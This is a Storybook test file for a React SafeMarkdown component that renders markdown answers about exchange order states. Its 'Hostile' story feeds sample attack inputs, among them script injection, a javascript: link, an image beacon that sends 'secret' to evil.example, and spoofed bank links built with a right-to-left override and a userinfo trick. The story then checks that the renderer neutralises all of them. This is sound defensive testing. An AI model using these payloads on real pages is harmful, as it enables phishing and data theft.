import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect } from 'storybook/test';
import { SafeMarkdown } from './SafeMarkdown.tsx';

const meta: Meta<typeof SafeMarkdown> = {
  component: SafeMarkdown,
  args: { links: 'foreign' },
};
export default meta;
type Story = StoryObj<typeof meta>;

const ANSWER = `The order waits for **three confirmations** [1].

1. Open it in your *records*.
2. Read its state:
   - exchanging
   - ~~lost~~ refund waiting

> Nothing is lost meanwhile.

| State | What it means | What to do |
| :-- | :-: | --: |
| exchanging | The payment was seen | wait |
| refund waiting | The payout failed | confirm the refund |

Its code is \`receive_complete\`:

\`\`\`json
{ "detailState": "receive_complete" }
\`\`\`

See [the states](#/manual/order-states), or https://eips.ethereum.org/EIPS/eip-20 and [the standard](https://eips.ethereum.org/EIPS/eip-20).`;

export const Answer: Story = { args: { text: ANSWER } };
export const Manual: Story = { args: { text: ANSWER, links: 'manual' } };
export const Headings: Story = {
  args: { text: '# First\n\ntext\n\n##### Skips\n\ntext\n\n## Back\n\ntext', topHeading: 2 },
};
export const Phone: Story = { args: { text: ANSWER }, globals: { viewport: { value: 'phone' } } };

export const Hostile: Story = {
  args: {
    text: [
      '[Confirm swap](javascript:alert(1)) <img src=x onerror=alert(1)> ![a kitten](https://evil.example/?q=secret)',
      '[bank.example\u202e](https://evil.example/moc.knab) <script>alert(1)</script> [wallet](https://bank.example@evil.example)',
      '\u001b[31mred\u001b[0m \u{e0041}\u{e0042} $x^2$',
    ].join('\n\n'),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getAllByRole('link')).toHaveLength(1);
    await expect(canvas.getByRole('link')).toHaveTextContent(/^bank\.example$/);
    await expect(canvasElement).toHaveTextContent('(evil.example)');
    await expect(canvasElement.querySelectorAll('img, script')).toHaveLength(0);
  },
};

export const WideTable: Story = {
  args: {
    text: `| ${'a long head | '.repeat(12)}\n| ${'--- | '.repeat(12)}\n| ${'cell | '.repeat(12)}`,
  },
  globals: { viewport: { value: 'phone' } },
};

export const TooDeepToRead: Story = { args: { text: `An answer.\n\n${'>'.repeat(40)} deep\n${'[a]('.repeat(400)}` } };
